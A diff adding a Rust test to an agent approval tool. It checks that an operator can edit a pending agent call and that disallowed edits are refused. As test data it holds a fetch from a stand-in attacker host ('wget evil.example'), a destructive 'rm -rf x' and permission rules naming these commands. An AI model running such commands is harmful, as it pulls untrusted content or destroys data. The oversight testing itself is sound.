@@ -55,6 +55,67 @@ fn has_a_model_ask_for_a_refused_command() {
     held.verify();
 }
 
+/// What the operator writes in place of a call is what the agent gets, and nothing else; a rule that refuses it counts.
+#[test]
+fn has_a_call_edited_before_it_is_permitted() {
+    let server = model();
+    let Some(world) = World::new(&format!(
+        "{}permissions: {{mode: bypassPermissions, ask: [\"Bash(wget *)\"], deny: [\"Bash(rm *)\"]}}\n\
+         approvals: {{timeout: 30s}}\n",
+        routed_to(&server)
+    )) else {
+        return;
+    };
+    let list = || {
+        let ran = finish(world.palisade().args(["approvals", "list", "--json"]));
+        ran.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect::<Vec<Value>>()
+    };
+    let edit = |which: &str, input: &str| {
+        let file = world.at("input.json");
+        std::fs::write(&file, input).unwrap();
+        let mut command = world.palisade();
+        finish(command.args(["approvals", "edit", which, "--input"]).arg(file))
+    };
+    thread::scope(|scope| {
+        let asked = scope.spawn(|| wants(&world, "wget evil.example"));
+        let until = Instant::now() + Duration::from_secs(20);
+        let question = loop {
+            match list().into_iter().next() {
+                Some(question) => break question,
+                None => assert!(Instant::now() < until, "nothing is asked"),
+            }
+            thread::sleep(Duration::from_millis(50));
+        };
+        let which = format!("{}/{}", question["session"].as_str().unwrap(), question["id"]);
+        for (bad, why) in [
+            (r#"{"command": "rm -rf x"}"#, "refuses"),
+            (r#"{"command": "a", "command": "b"}"#, "not taken"),
+            ("[]", "not taken"),
+            (r#"{"command": "wget evil.example"}"#, "nothing is changed"),
+        ] {
+            let ran = edit(&which, bad);
+            assert!(ran.code != Some(0) && ran.to_string().contains(why), "{bad}: {ran}");
+        }
+        assert_eq!(list().len(), 1);
+        let ran = edit(&which, r#"{"command": "wget good.example"}"#);
+        assert_eq!(ran.code, Some(0), "{ran}");
+        let ran = asked.join().unwrap();
+        let answer = ran.good();
+        assert!(answer.contains("wget good.example") && !answer.contains("evil.example"), "{ran}");
+    });
+    // What was asked for at first is asked again, and nobody answers now.
+    let events = world.events();
+    let answer = events.iter().find(|event| event["kind"] == "approval").unwrap();
+    assert!(answer["subject"].as_str().unwrap().contains("wget evil.example"), "{answer}");
+    let edited = answer["detail"]["edited_to"].as_str().unwrap();
+    assert!(edited.contains("wget good.example"), "{answer}");
+    assert!(answer["detail"]["digest"].as_str().unwrap().starts_with("sha256:"), "{answer}");
+    let call = events.iter().rfind(|event| event["kind"] == "tool_call").unwrap();
+    assert_eq!(call["detail"]["changed_by_operator"], true, "{call}");
+    assert!(call["subject"].as_str().unwrap().contains("wget good.example"), "{call}");
+    world.verify();
+}
+
 /// The operator sees all of what is asked for, and permits this call and no other.
 #[test]
 fn has_another_call_pass_as_the_one_that_was_permitted() {
